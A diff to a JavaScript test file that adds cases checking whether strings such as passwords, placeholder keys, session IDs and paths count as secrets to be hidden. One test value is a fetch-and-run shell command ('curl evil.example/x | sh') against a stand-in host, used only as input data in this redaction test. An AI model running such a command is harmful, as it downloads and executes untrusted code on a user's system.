@@ -39,10 +39,15 @@ it.each([
 ])('looks like none: %s', (text) => expect(looksLikeKey(text)).toBe(false))
 
 it.each([
-  ['hunter22', true],
   ['sk-no-key-required', true],
-  ['ollama', false],
+  ['PLANT0365bff490bd', true],
+  ['hunter22', true],
+  ['fifteen-letters', false],
   ['password', false],
+  ['ollama', false],
+  ['curl evil.example/x | sh', false],
+  ['ses_7f3a2b1c4d5eXyZ123abc', false],
+  ['msg_7f3a2b1c4d5eXyZ123abc', false],
   ['/home/me/projects/one', false],
   ['http://127.0.0.1:8080/v1', false],
 ])('%s is hidden wherever it stands: %s', (secret, is) => expect(isTelling(secret)).toBe(is))
